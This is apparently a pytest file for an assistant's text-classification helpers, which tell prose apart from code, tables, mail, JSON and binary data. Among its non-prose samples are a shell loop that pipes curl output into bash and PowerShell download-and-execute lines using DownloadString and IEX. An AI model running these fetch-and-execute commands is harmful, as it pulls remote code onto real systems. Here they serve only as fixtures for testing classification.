"""The shape of a text: readable lines, prose, data."""

from __future__ import annotations

import time

import pytest

from svc.assistant.file_types.text_shape import data_form, has_field_lines, is_prose, readable_lines, word_share

SENTENCES = (
    "The attackers sent a mail to the finance department. After that they moved to the server with the backups.",
    "Die Besprechung der Abteilung wurde auf Donnerstag verlegt, weil der Raum gestrichen wird.",
    "La réunion du service est reportée à jeudi, car la grande salle est en travaux.",
    "El informe de la semana fue enviado a los clientes por la oficina.",
    "会議は木曜日に延期されました。資料を持参してください。",
)
OTHERS = (
    "for host in a b c; do curl -s http://$host/x | bash; done",
    "# the purpose of this script is to fetch the tools that we need\nwhoami /all\n",
    "$c = New-Object Net.WebClient\nIEX $c.DownloadString($a)",
    "name,host\na,b\n",
    "PermitRootLogin yes\nX11Forwarding no\n",
    "def run(name):\n    return name\n",
    "",
)


@pytest.mark.parametrize("text", SENTENCES)
def test_sentences_are_prose(text: str):
    assert is_prose(text)


@pytest.mark.parametrize("text", OTHERS)
def test_code_lists_and_settings_are_not_prose(text: str):
    assert not is_prose(text)


@pytest.mark.parametrize(
    ("text", "lines"),
    [
        ("", (0, 0)),
        (" \n\n", (0, 0)),
        ("a\nb\n", (2, 2)),
        ("a\n\nb", (3, 3)),
        ("caf\ufffd is open every day of the week\nb\n", (2, 2)),
        ("a line\n" * 99 + "\x00\x01\x02\n", (99, 100)),
        ("\x00\x01\x02\x03 text\n" * 9, (0, 9)),
        ("p\x00r\x00o\x00s\x00e\x00\n\x00", (0, 2)),
    ],
)
def test_readable_lines_are_counted(text: str, lines: tuple[int, int]):
    assert readable_lines(text) == lines


@pytest.mark.parametrize(
    ("text", "form"),
    [
        ("a,b,c\n1,2,3\n4,5,6\n", "a table"),
        ("var a=1;b();c();\nd();e();f();\n", ""),
        ('{"a": 1}', "JSON"),
        ("%PDF-1.7\n1 0 obj\n", "a file of another type (pdf)"),
        ("\x7fELF\x02\x01\x01" + "\x00" * 90, "binary data"),
        ("From: a@b.example\nSubject: x\n\nhi\n", "a mail"),
        ("whoami\n", ""),
    ],
)
def test_data_is_recognised(text: str, form: str):
    assert data_form(text) == form


def test_headers_are_field_lines_and_sentences_are_not():
    assert has_field_lines("HTTP/1.1 200 OK\r\nServer: a\r\nX-A: b\r\n")
    assert not has_field_lines("Note: this is a text.\nIt goes on here.\n")


def test_the_share_of_words_is_low_in_code():
    assert word_share(SENTENCES[0]) == 1.0
    assert word_share("$a = 'b'; & $c.d($e) | iex") < 0.3
    assert word_share("") == 0.0


@pytest.mark.parametrize("piece", ["\x00", "a\x00", "\ufffd\n", "a ", "a\n", "-", "a-"])
def test_large_texts_are_judged_in_time(piece: str):
    text = piece * (4_000_000 // len(piece))
    started = time.process_time()
    readable_lines(text)
    data_form(text)
    is_prose(text)
    word_share(text)
    assert time.process_time() - started < 5
